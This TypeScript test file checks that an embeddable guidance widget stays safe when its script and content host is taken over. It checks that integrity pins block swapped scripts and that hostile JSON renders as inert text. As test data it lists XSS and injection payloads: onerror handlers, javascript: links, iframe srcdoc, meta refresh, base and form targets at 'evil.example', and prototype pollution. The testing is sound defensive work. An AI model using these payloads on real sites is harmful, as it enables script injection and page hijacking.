// Somebody takes over the host of script and content. A page that has pinned the script goes on, and nothing of theirs runs there.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, test } from 'node:test';
import { describeSnippet, type Form } from '../../src/site/index.js';
import { openPage, openSite } from './browse-site.js';
import { CONTENT, newFolder } from './make-site.js';
import { serve } from './serve.js';

/** What the taken host answers instead of its files, by the end of the path. */
const hostile = new Map<RegExp, string>();
const cookies: (string | undefined)[] = [];
const { host, browser } = await openSite({
  answer: ({ url = '', headers }, response) => {
    cookies.push(headers.cookie);
    response.setHeader('Set-Cookie', 'reader=1; Path=/').setHeader('Cache-Control', 'no-store');
    const body = [...hostile].find(([path]) => path.test(url))?.[1];
    if (body !== undefined) response.setHeader('Content-Type', url.includes('.json') ? 'application/json' : 'text/javascript').end(body);
    return response.writableEnded;
  },
});
beforeEach(() => void (cookies.length = 0));
afterEach(() => hostile.clear());

const TITLE = 'Ortak çalışmaya hazırız, yalnızca kapısını çalacağımız örgütü henüz bulamadık.';
const RUN = 'window.taken = true;';

/** A page of somebody else with the snippet in it, pinned as the generator writes it or with the pins taken out. */
async function visit({ form = 'text', isPinned = true }: { form?: Form; isPinned?: boolean } = {}) {
  const snippet = await describeSnippet({
    content: CONTENT,
    question: '9',
    choice: '2',
    lang: 'tr',
    contentLang: 'tr',
    platform: 'html',
    form,
    base: `${host.origin}/`,
    messages: 'tr',
  });
  const [body, head] = snippet!.parts.map(({ code }) => (isPinned ? code : code.replace(/ integrity="[^"]+"/g, '')));
  const theirs = await serve(newFolder(), {
    pages: {
      '/': `<!doctype html><html lang="tr"><head><meta charset="utf-8"><title>Derneğimiz</title><link rel="icon" href="data:,">${head}</head><body>${body}<p>Bizim sayfamız</p></body></html>`,
    },
  });
  const { page } = await openPage(browser);
  const strangers: string[] = [];
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => strangers.push(dialog.message())));
  page.on(
    'request',
    (request) => [host.origin, theirs.origin, 'data:'].some((known) => request.url().startsWith(known)) || strangers.push(request.url()),
  );
  await page.goto(`${theirs.origin}/`, { waitUntil: 'load' });
  await page.waitForNetworkIdle({ idleTime: 100 });
  // Whatever can be clicked is clicked: what waits for that has its chance. No link is followed.
  const seen = await page.evaluate(() => {
    addEventListener('click', (event) => event.preventDefault());
    const element = document.querySelector('stgm-guidance')!;
    const root: ParentNode = element.shadowRoot ?? element;
    for (const one of root.querySelectorAll<HTMLElement>('*')) one.click?.();
    for (const details of root.querySelectorAll('details')) details.open = true;
    const text = [document.body, ...(element.shadowRoot?.children ?? [])].map((one) => (one as HTMLElement).innerText).join(' ');
    const addresses = [...root.querySelectorAll<HTMLAnchorElement>('a')].map(({ protocol }) => protocol);
    return { taken: 'taken' in window, text: text.replace(/\s+/g, ' '), addresses, defined: !!customElements.get('stgm-guidance') };
  });
  await Promise.all([page.close(), theirs.close()]);
  return { ...seen, strangers };
}

test('the attack works where nothing is pinned: else this would prove nothing', async () => {
  hostile.set(/stgm-guidance\.js/, RUN);
  assert.equal((await visit({ isPinned: false })).taken, true);
  hostile.clear();
  hostile.set(/stgm-help\.js/, RUN);
  assert.equal((await visit({ isPinned: false, form: 'disclosure' })).taken, true);
});

test('another script does not run: readers have the link that stands in the tag', async () => {
  hostile.set(/stgm-guidance\.js/, RUN);
  const { taken, text, defined, strangers } = await visit();
  assert.deepEqual([taken, defined, strangers], [false, false, []]);
  assert.ok(text.includes(TITLE) && text.includes('Bizim sayfamız'));
});

test('the script with one more line at its end does not run either', async () => {
  hostile.set(/stgm-guidance\.js/, `${readFileSync('dist/stgm-guidance.js', 'utf8')}${RUN}`);
  assert.deepEqual(await visit().then(({ taken, defined }) => [taken, defined]), [false, false]);
});

for (const form of ['disclosure', 'dialog'] as const) {
  test(`another stgm-help.js does not run: the entry is there, folded by the browser alone (${form})`, async () => {
    hostile.set(/stgm-help\.js/, `${RUN}document.currentScript.dispatchEvent(new CustomEvent('stgm-help', { detail: () => { ${RUN} } }));`);
    const { taken, text, strangers } = await visit({ form });
    assert.deepEqual([taken, strangers], [false, []]);
    assert.ok(text.includes(TITLE) && text.includes('A Practical Guide to Partnership'));
  });
}

const evil = 'https://evil.example/';
const bundle = (answer: unknown, more: object = {}) =>
  JSON.stringify({
    format: 1,
    lang: 'tr',
    question: { id: '9', title: 'Soru' },
    choices: [{ id: '2', title: `<img src=x onerror="${RUN}">`, answer, resourcesIntro: [], resources: [], ...more }],
  });

const BUNDLES: Record<string, string> = {
  'a script': bundle([
    ['script', RUN],
    ['script', { src: `${evil}x.js` }],
  ]),
  'handlers and styles': bundle([
    ['p', { onclick: RUN, onmouseenter: RUN, style: `background:url(${evil})` }, 'Yalan'],
    ['img', { src: 'x', onerror: RUN }],
    ['svg', { onload: RUN }],
  ]),
  'addresses that run': bundle([['p', ['a', { href: `javascript:${RUN}` }, 'Yalan'], ['a', { href: 'data:text/html,x' }, 'x']]], {
    resources: [{ title: 'T', url: `javascript:${RUN}`, kind: 'page', note: [] }],
  }),
  'frames, forms and what loads': bundle([
    ['iframe', { src: evil, srcdoc: `<script>parent.${RUN}</script>` }],
    ['object', { data: evil }],
    ['link', { rel: 'stylesheet', href: evil }],
    ['form', { action: evil }, ['button', 'Yalan']],
    ['img', { src: `${evil}x.png` }],
    ['meta', { 'http-equiv': 'refresh', content: `0;url=${evil}` }],
    ['base', { href: evil }],
  ]),
  'a polluted prototype': bundle([['p', JSON.parse(`{"__proto__":{"onclick":"${RUN}"}}`), 'Yalan']]).replace(
    '{',
    `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"},`,
  ),
  'a script in place of JSON': RUN,
  'a page': `<script>${RUN}</script>`,
  'half a file': bundle([['p', 'x']]).slice(0, 90),
  'more than anybody reads': `"${'x'.repeat(2_000_000)}"`,
};

for (const [name, body] of Object.entries(BUNDLES)) {
  test(`content that is ${name} runs nothing, asks nobody, and leaves a page that works`, async () => {
    hostile.set(/content\/tr\/9\.json/, body);
    const { taken, text, addresses, strangers } = await visit();
    assert.deepEqual([taken, strangers], [false, []]);
    assert.ok(
      addresses.every((protocol) => /^https?:$/.test(protocol)),
      addresses.join(),
    );
    assert.ok(text.includes('Bizim sayfamız') && /onerror|Ortak çalışmaya/.test(text), text); // what they have written, as text; or the link in the tag
  });
}

test('the pinned page shows what changes every day, by the same script', async () => {
  for (const day of ['Pazartesi metni', 'Salı metni']) {
    hostile.set(/content\/tr\/9\.json/, bundle([['p', day]]));
    assert.ok((await visit()).text.includes(day));
    hostile.clear();
  }
});

test('the host learns of a reader by no cookie, even where it sets one', async () => {
  await visit();
  await visit({ form: 'dialog' });
  assert.deepEqual([cookies.length > 3, cookies.filter(Boolean)], [true, []]);
});
